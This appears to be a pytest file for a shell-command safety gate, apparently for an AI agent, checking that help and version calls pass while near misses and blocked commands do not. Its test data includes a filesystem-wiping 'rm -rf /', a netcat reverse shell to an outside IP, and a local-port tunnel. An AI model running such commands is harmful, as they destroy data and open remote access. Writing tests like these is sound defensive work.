"""`tool --help` and `tool sub --version` print and exit: what the tool's verbs would do is not done, so a known
program's asks drop for them. The near misses: short `-h` (halt to shutdown), a redirect that writes somewhere,
a runner that hands the flag to the program it fetches, a path as the program, and blocks, which stay."""

from __future__ import annotations

import pytest

from gate import SafetyGate, default_policy
from gate.model import Decision, action_from_dict

GATE = SafetyGate(default_policy())


def decide(command: str) -> Decision:
    return GATE.assess(action_from_dict({"type": "shell", "command": command})).decision


@pytest.mark.parametrize("command", [
    "su --help", "shutdown --help", "rmmod --version", "visudo --version", "sudo ufw --help",
    "bore local --help", "glab mr merge --help", "iptables --version",
])
def test_usage_of_a_known_program_passes(command: str) -> None:
    assert decide(command) is Decision.ALLOW, command


@pytest.mark.parametrize("command", [
    "shutdown -h",                      # halt, not help
    "su root",                          # the verb itself
    "rmmod --version > /etc/modules",   # the redirect writes a system file
    "git push --force --help extra",    # the flag is not last: the push runs
    "bore local 8080 --to bore.pub",    # the tunnel itself
])
def test_near_misses_still_ask(command: str) -> None:
    assert decide(command) is not Decision.ALLOW, command


@pytest.mark.parametrize("command", ["rm -rf / --help", "nc -e /bin/sh 192.0.2.4 4444 --help"])
def test_a_block_stays(command: str) -> None:
    assert decide(command) is Decision.BLOCK, command
